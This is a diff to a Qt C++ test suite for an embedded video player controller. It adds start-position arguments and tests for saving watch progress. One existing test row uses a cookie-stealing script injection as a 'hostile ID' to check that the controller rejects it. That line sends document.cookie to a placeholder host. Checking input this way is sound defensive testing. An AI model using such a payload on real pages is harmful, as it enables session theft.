@@ -8,6 +8,7 @@
 #include "PlayerController.h"
 #include "ThumbCache.h"
 #include "UpNextCountdown.h"
+#include "WatchProgress.h"
 
 #include <QAction>
 #include <QApplication>
@@ -97,7 +98,7 @@ QString withIDs(const char *text)
     static const QList<QPair<QString, QString>> ids{{u"A"_qs, u"dQw4w9WgXcQ"_qs}, {u"B"_qs, u"9bZkp7q19f0"_qs}};
     QString out = QString::fromUtf8(text);
     for (const auto &[token, id] : ids) {
-        out.replace(u'(' + token + u')', u"(\""_qs + id + u"\")"_qs);
+        out.replace(u'(' + token + u',', u"(\""_qs + id + u"\","_qs);
         out.replace(QRegularExpression(u"\\b"_qs + token + u"\\b"_qs), id);
     }
     return out;
@@ -109,7 +110,7 @@ QString withIDs(const char *text)
 //   ready         the page says it is ready
 //   msg JSON      the page posts JSON through the bridge
 //   state S       the page posts {"t":"state","s":S}; error C likewise with "c"
-//   load ID 0|1   load with autoplay off or on
+//   load ID 0|1 [S] load with autoplay off or on, from S seconds (0 when not given)
 //   play, pause   the operations of the same names
 //   timeout       the loading time-out expires (when it runs)
 struct Harness
@@ -137,7 +138,8 @@ struct Harness
             } else if (verb == u"state" || verb == u"error") {
                 bridge.postMessage(parsed(uR"({"t":"%1","%2":%3})"_qs.arg(verb, verb == u"state" ? u"s" : u"c", rest)));
             } else if (verb == u"load") {
-                controller.load(rest.section(u' ', 0, 0), rest.section(u' ', 1, 1) == u"1");
+                controller.load(rest.section(u' ', 0, 0), rest.section(u' ', 1, 1) == u"1",
+                                rest.section(u' ', 2, 2).toInt());
             } else if (verb == u"play") {
                 controller.play();
             } else if (verb == u"pause") {
@@ -609,19 +611,24 @@ private Q_SLOTS:
         // Waiting for the page.
         row("no page: load waits", "load A 1", "", "pending=A");
         row("attached, not ready: load waits", "attach, load A 0", "", "pending=A");
-        row("ready sends the pending cue", "attach, load A 0, ready", "cueVideo(A)", "loading");
-        row("ready sends the pending load", "attach, load A 1, ready", "loadVideo(A)", "playing loading");
-        row("two loads before ready: the second", "attach, load A 1, load B 0, ready", "cueVideo(B)", "loading");
-        row("second ready with nothing pending", "attach, ready, load A 0, ready", "cueVideo(A)", "loading");
+        row("ready sends the pending cue", "attach, load A 0, ready", "cueVideo(A, 0)", "loading");
+        row("ready sends the pending load", "attach, load A 1, ready", "loadVideo(A, 0)", "playing loading");
+        row("two loads before ready: the second", "attach, load A 1, load B 0, ready", "cueVideo(B, 0)", "loading");
+        row("a saved position is where it starts", "attach, ready, load A 1 95", "loadVideo(A, 95)", "playing loading");
+        row("a pending load keeps its start", "attach, load A 0 40, ready", "cueVideo(A, 40)", "loading");
+        row("a new page resumes where the old one was",
+            R"(attach, ready, load A 0 40, state 5, msg {"t":"time","p":61.5,"d":300}, attach, ready)",
+            "cueVideo(A, 40) cueVideo(A, 61)", "loading");
+        row("second ready with nothing pending", "attach, ready, load A 0, ready", "cueVideo(A, 0)", "loading");
         row("play before ready only changes the flag", "attach, play", "", "playing");
 
         // The same video again.
-        row("same video without autoplay", "attach, ready, load A 0, load A 0", "cueVideo(A)", "loading");
-        row("same video, autoplay", "attach, ready, load A 0, load A 1", "cueVideo(A) play()", "playing loading");
+        row("same video without autoplay", "attach, ready, load A 0, load A 0", "cueVideo(A, 0)", "loading");
+        row("same video, autoplay", "attach, ready, load A 0, load A 1", "cueVideo(A, 0) play()", "playing loading");
 
         // The state table, after "attach, ready, load A 1".
         const auto after = [&row](const char *name, const char *more, const char *state) {
-            row(name, (QByteArray("attach, ready, load A 1, ") + more).constData(), "loadVideo(A)", state);
+            row(name, (QByteArray("attach, ready, load A 1, ") + more).constData(), "loadVideo(A, 0)", state);
         };
         after("state 1 plays, ends loading", "state 1", "playing");
         after("state 0 ends", "state 0", "");
@@ -639,10 +646,11 @@ private Q_SLOTS:
         // Errors.
         after("error 150", "error 150", "error=150");
         after("error without code is -1", R"(msg {"t":"error"})", "error=-1");
-        row("play keeps error", "attach, ready, load A 1, error 101, play", "loadVideo(A) play()", "playing error=101");
+        row("play keeps error", "attach, ready, load A 1, error 101, play", "loadVideo(A, 0) play()",
+            "playing error=101");
         after("same video keeps the error", "error 101, load A 0", "error=101");
         row("another video clears the error", "attach, ready, load A 1, error 101, load B 0",
-            "loadVideo(A) cueVideo(B)", "loading");
+            "loadVideo(A, 0) cueVideo(B, 0)", "loading");
 
         // Malformed messages change nothing.
         after("text body", R"(msg "ready")", "playing loading");
@@ -656,14 +664,15 @@ private Q_SLOTS:
 
         // A new web view.
         row("re-attach while playing loads again", "attach, ready, load A 1, attach, ready",
-            "loadVideo(A) loadVideo(A)", "playing loading");
+            "loadVideo(A, 0) loadVideo(A, 0)", "playing loading");
         row("re-attach while paused cues again", "attach, ready, load A 1, pause, attach, ready",
-            "loadVideo(A) pause() cueVideo(A)", "loading");
-        row("the old page gets nothing after re-attach", "attach, ready, load A 1, attach, play", "loadVideo(A)",
+            "loadVideo(A, 0) pause() cueVideo(A, 0)", "loading");
+        row("the old page gets nothing after re-attach", "attach, ready, load A 1, attach, play", "loadVideo(A, 0)",
             "playing loading pending=A");
-        row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A)",
+        row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A, 0)",
             "playing loading pending=B");
-        row("page gone: pause only sets the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A)", "loading");
+        row("page gone: pause only sets the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A, 0)",
+            "loading");
 
         // Hostile or unplayable IDs are never loaded nor kept pending.
         row("hostile ID, ready", "attach, ready, load a');fetch('//evil/'+document.cookie);(' 1", "", "");
@@ -702,6 +711,104 @@ private Q_SLOTS:
         QCOMPARE(playing.count(), 2); // on, then off by the error
         QCOMPARE(loading.count(), 2);
         QCOMPARE(error.count(), 1);
+    }
+
+    // A time report as the page posts it, and what the controller passes on ("" for nothing).
+    void timeReports_data()
+    {
+        QTest::addColumn<QString>("message");
+        QTest::addColumn<QString>("reported");
+        QTest::newRow("position and length") << uR"({"t":"time","p":12.5,"d":300})"_qs << u"12.5/300"_qs;
+        QTest::newRow("length not known yet") << uR"({"t":"time","p":0})"_qs << u"0/0"_qs;
+        QTest::newRow("negative length") << uR"({"t":"time","p":3,"d":-1})"_qs << u"3/0"_qs;
+        QTest::newRow("no position") << uR"({"t":"time","d":300})"_qs << QString();
+        QTest::newRow("position as text") << uR"({"t":"time","p":"12","d":300})"_qs << QString();
+    }
+
+    void timeReports()
+    {
+        QFETCH(QString, message);
+        Harness h;
+        QStringList reported;
+        QObject context;
+        connect(&h.controller, &PlayerController::timeReported, &context,
+                [&](double p, double d) { reported << u"%1/%2"_qs.arg(p).arg(d); });
+        h.run(withIDs("attach, ready, load A 1"));
+        // Still the previous video's: the new one has not reported a state yet.
+        h.bridge.postMessage(parsed(message));
+        QCOMPARE(reported, QStringList());
+        h.run(u"state -1"_qs);
+        h.bridge.postMessage(parsed(message));
+        QTEST(reported.join(u' '), "reported");
+    }
+
+    // Steps, separated by ", ": "select ID" (or "select -" for none), "t P/D" a report while
+    // playing, "tp P/D" one while paused, "wait S" the clock moves S seconds, "pause", "end",
+    // "quit". What was kept: "ID@S" for a position, "ID!" for a watched mark.
+    void watchProgress_data()
+    {
+        QTest::addColumn<QString>("steps");
+        QTest::addColumn<QString>("kept");
+        const auto row = [](const char *name, const char *steps, const char *kept) {
+            QTest::newRow(name) << QString::fromUtf8(steps) << QString::fromUtf8(kept);
+        };
+        row("nothing kept within the interval", "select a, t 3/100, wait 9, t 12/100", "");
+        row("kept every ten seconds while playing",
+            "select a, t 3/100, wait 10, t 13/100, wait 5, t 18/100, wait 5, t 23/100", "a@13 a@23");
+        row("kept on pause", "select a, t 30.7/100, pause", "a@30");
+        row("a second pause at the same place writes nothing", "select a, t 30/100, pause, pause", "a@30");
+        row("kept when another video is selected", "select a, t 42/100, select b", "a@42");
+        row("kept when none is selected", "select a, t 42/100, select -", "a@42");
+        row("kept on quit", "select a, t 42/100, quit", "a@42");
+        row("nothing before it has played", "select a, tp 0/100, pause, select b", "");
+        row("a paused report after playing is kept at once", "select a, t 20/100, tp 25/100, pause", "a@25");
+        row("the exact place of a pause that came first", "select a, t 20/100, pause, tp 20.8/100, tp 21/100",
+            "a@20 a@21");
+        row("exactly 90 % is not yet watched", "select a, t 90/100, pause", "a@90");
+        row("past 90 % is watched", "select a, t 90.5/100", "a!");
+        row("watched once, then no more positions", "select a, t 95/100, wait 10, t 97/100, pause, quit", "a!");
+        row("played to the end", "select a, t 50/100, end", "a!");
+        row("an end after the mark marks nothing more", "select a, t 95/100, end", "a!");
+        row("unknown length never counts as watched", "select a, t 500/0, pause", "a@500");
+        row("selected again: positions kept again", "select a, t 95/100, select b, select a, t 5/100, pause", "a! a@5");
+        row("the same selection again changes nothing", "select a, t 8/100, select a, pause", "a@8");
+        row("no selection: nothing", "t 50/100, end, quit", "");
+    }
+
+    void watchProgress()
+    {
+        QFETCH(QString, steps);
+        std::chrono::steady_clock::time_point now{};
+        QStringList kept;
+        WatchProgress progress({[&](const QString &id, int s) { kept << u"%1@%2"_qs.arg(id).arg(s); },
+                                [&](const QString &id) { kept << id + u'!'; }},
+                               [&] { return now; });
+        for (const QString &step : steps.split(u", "_qs)) {
+            const QString verb = step.section(u' ', 0, 0);
+            const QString rest = step.section(u' ', 1);
+            if (verb == u"select")
+                progress.select(rest == u"-" ? std::nullopt : std::optional<QString>(rest));
+            else if (verb == u"t" || verb == u"tp")
+                progress.timeReported(rest.section(u'/', 0, 0).toDouble(), rest.section(u'/', 1).toDouble(),
+                                      verb == u"t");
+            else if (verb == u"wait")
+                now += std::chrono::seconds(rest.toInt());
+            else if (verb == u"pause")
+                progress.paused();
+            else if (verb == u"end")
+                progress.ended();
+            else if (verb == u"quit")
+                progress.quit();
+            else
+                qFatal("unknown step %s", qPrintable(step));
+        }
+        QTEST(kept.join(u' '), "kept");
+    }
+
+    void startPositions()
+    {
+        QCOMPARE(WatchProgress::startPosition(false, 120), 120);
+        QCOMPARE(WatchProgress::startPosition(true, 120), 0);
     }
 
     void aBridgeOutlivingItsControllerIsHarmless()
